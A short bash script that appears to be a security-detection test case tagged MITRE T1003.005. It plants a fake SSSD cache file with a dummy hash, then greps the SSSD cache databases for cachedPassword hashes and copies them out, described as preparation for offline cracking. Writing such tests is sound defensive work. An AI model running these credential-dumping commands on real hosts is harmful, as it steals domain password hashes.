#!/bin/bash
# Dump the cached domain credentials of an SSSD-joined host: grep the SSSD cache databases
# for cachedPassword hashes and copy them out for offline cracking. The cache is a made-up
# file written where sssd keeps it (no sssd runs here).
# technique: T1003.005
# expect: cached-domain-credentials-read
set -eu
mkdir -p /var/lib/sss/db
printf 'name=alice@corp.example\ncachedPassword=$6$notreal$notarealhash\n' \
    > /var/lib/sss/db/cache_corp.example.ldb
grep -a -h cachedPassword /var/lib/sss/db/cache_*.ldb > "$TPY_WORK/hashes.txt"
cp /var/lib/sss/db/cache_corp.example.ldb "$TPY_WORK/"
wc -l "$TPY_WORK/hashes.txt"
